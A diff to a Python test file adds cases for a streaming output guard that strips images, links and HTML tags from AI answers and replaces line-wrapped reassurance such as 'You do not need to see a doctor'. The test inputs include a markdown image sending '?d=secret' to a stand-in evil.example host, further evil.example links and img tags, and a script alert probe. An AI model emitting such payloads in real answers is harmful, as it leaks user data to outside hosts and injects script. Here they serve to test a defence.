@@ -301,6 +301,9 @@ def test_guard_holds_back_until_a_boundary():
         ("Read [this guide](https://evil.example/p) today.", "Read this guide today."),
         ('Look <img src="http://evil.example/a.png"> now.', "Look  now."),
         ("<script>alert(1)</script>Eczema.", "alert(1)Eczema."),
+        ("![x. y](http://evil.example/p.png?d=secret) Eczema.", "[image removed] Eczema."),
+        ("[Click here. Now](http://evil.example/?q=1) please.", "Click here. Now please."),
+        ("See <img src='http://evil.example/a. b'> here.", "See  here."),
     ],
 )
 def test_answers_carry_no_live_images_links_or_tags(answer, shown):
@@ -309,3 +312,22 @@ def test_answers_carry_no_live_images_links_or_tags(answer, shown):
     guard = Guard()
     streamed = "".join(guard.feed(answer[i : i + 3]) for i in range(0, len(answer), 3)) + guard.finish()[0]
     assert streamed == verdict.text and "http" not in streamed
+
+
+@pytest.mark.parametrize(
+    "answer", ["Nothing\nto worry about.", "You do not need to see a\ndoctor.", "It is\n  benign, I think."]
+)
+def test_reassurance_wrapped_over_lines_is_still_replaced(answer):
+    verdict = review(answer)
+    assert verdict.answer == NEUTRAL and verdict.replaced >= 1 and verdict.level == "prompt"
+    guard = Guard()
+    streamed = "".join(guard.feed(ch) for ch in answer) + guard.finish()[0]
+    assert streamed == verdict.text
+
+
+def test_a_lone_angle_bracket_holds_text_back_only_so_far():
+    answer = "A lesion < 6 mm. " + "It is scaly. " * 60
+    guard = Guard()
+    shown = "".join(guard.feed(answer[i : i + 5]) for i in range(0, len(answer), 5))
+    assert 0 < len(shown) < len(answer)  # released before the end, despite the stray "<"
+    assert shown + guard.finish()[0] == review(answer).text
